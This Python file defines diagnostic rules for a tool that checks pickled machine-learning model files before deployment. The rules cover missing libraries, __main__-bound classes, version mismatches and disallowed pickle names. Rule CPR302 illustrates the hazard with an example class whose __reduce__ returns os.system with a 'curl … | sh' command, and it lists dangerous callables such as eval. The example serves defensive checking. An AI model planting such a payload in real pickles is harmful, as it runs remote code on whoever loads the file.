"""The rules of what is found in pickles."""

from __future__ import annotations

import sys

from cpr.checks.artifact_models import DAMAGED as DAMAGED
from cpr.findings import rule

STANDARD = sys.stdlib_module_names
# Top-level modules that are surely a library's, not the user's.
KNOWN_LIBRARIES = frozenset(
    {
        "catboost", "category_encoders", "cupy", "dask", "dill", "gensim", "imblearn", "joblib",
        "keras", "lightgbm", "nltk", "numba", "numpy", "pandas", "polars", "pyarrow", "scipy",
        "shap", "sklearn", "spacy", "statsmodels", "tensorflow", "torch", "transformers", "xgboost",
    }
)  # fmt: skip

LIBRARY = rule(
    "CPR301",
    "error",
    "A pickle needs a library that is not installed",
    cause="Loading a pickle imports the modules of every class in it. One of them is a library's, "
    "and it is not here.",
    cure="Install the library and state it as a requirement, in the version that the pickle was "
    "saved with.",
)
REFUSED = rule(
    "CPR302",
    "error",
    "A pickle would be refused",
    cause="Loading it uses names that are not on the list of what pickles may use. Some names run "
    "whatever the pickle gives them: os.system, eval, getattr, joblib.load. Others are harmless "
    "and only unknown. docs/trust.md tells what is listed.",
    cure="Find out where the file comes from. Add names that you know to be harmless to trusted in "
    '[predictor], or trust the file as you trust code with trust = "full".',
    example="""
    class Surprise:
        def __reduce__(self):
            return os.system, ("curl … | sh",)    # runs when the file is loaded
    """,
)
MAIN = rule(
    "CPR303",
    "error",
    "A pickle is bound to __main__",
    cause="It was saved by the script or notebook that defines the class. The pickle holds only "
    "the class's name, and when it is served __main__ is another program. AI Platform said "
    "“Can't get attribute 'MyScaler' on <module '__main__'”.",
    cure="Move the class into a module, import it from there, and save the model again.",
    example="""
    class MyScaler: ...                  # in train.py, which is run as a script
    joblib.dump(MyScaler(), "model/preprocessor.joblib")
    """,
)
OWN_MODULE = rule(
    "CPR304",
    "error",
    "A pickle needs a module that is not in the package",
    cause="A pickle holds the names of its classes, not their code. The module was there when the "
    "model was saved, and is not in the package that serves it. AI Platform said “No module "
    "named 'preprocess'”.",
    cure="Add the module to the package, under the same name.",
)
OTHER_VERSION = rule(
    "CPR305",
    "warning",
    "A pickle was saved by another version of scikit-learn",
    cause="The attributes of estimators change between versions. At best it loads and predicts the "
    "same; it may also fail, at load or at the first request, or predict something else without a "
    "word.",
    cure="Require the version that saved it, or save the model again with the installed one and "
    "compare predictions.",
)
PYTHON_2 = rule(
    "CPR306",
    "error",
    "A pickle was saved by Python 2",
    cause="Its texts are bytes without an encoding: Python 3 cannot know which they are in.",
    cure="Load it with Python 2 and save its parts in another form, or train again.",
)
UNLISTED = rule(
    "CPR307",
    "warning",
    "A pickle that your class loads uses unlisted names",
    cause="Your class unpickles the file itself, so nothing is refused: whatever the file names is "
    "called. These names are not on the list of what a pickle of a model usually needs.",
    cure="Make sure that you know why each name is there and who wrote the file. Then add the "
    "names to trusted in [predictor].",
)
NO_NAME = rule(
    "CPR308",
    "error",
    "A pickle needs a class that its module does not have",
    cause="The class was renamed, moved or removed since the pickle was saved, or the library is "
    "of another version.",
    cure="Bring the name back, or require the version that has it, or save the model again.",
)
